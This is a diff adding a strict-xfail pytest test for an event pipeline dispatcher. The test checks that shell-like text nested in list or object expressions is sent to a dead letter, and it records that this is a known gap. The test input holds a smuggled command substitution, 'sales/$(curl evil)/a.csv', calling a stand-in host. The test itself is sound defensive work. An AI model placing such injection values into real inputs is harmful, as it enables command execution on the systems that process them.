@@ -526,6 +526,25 @@ def test_what_a_shell_would_act_on_never_becomes_an_input(here: Scene) -> None:
     assert here.workspace.jobs == {}
 
 
+@pytest.mark.xfail(
+    strict=True,
+    reason="only text that is found is looked at; a list or an object is written into the text "
+    "afterwards, with all that is in it",
+    raises=AssertionError,
+)
+@pytest.mark.parametrize("found", ["${{ [captures.region] }}", "${{ event.data }}"])
+def test_what_a_shell_would_act_on_never_hides_in_a_list_or_an_object(
+    here: Scene, found: str
+) -> None:
+    here.publish(
+        trigger(inputs={"note": f"of {found}"}),
+        pipelines=[pipeline(inputs={"note": {"type": "string"}})],
+    )
+    here.dispatcher.handle(event("sales/$(curl evil)/a.csv"))
+
+    assert here.record().state is State.DEAD_LETTER
+
+
 def test_what_a_trigger_writes_itself_is_its_author_s_business(here: Scene) -> None:
     here.publish(
         trigger(inputs={"data": "${{ event.data.url }}", "query": "a > 5 & b"}),
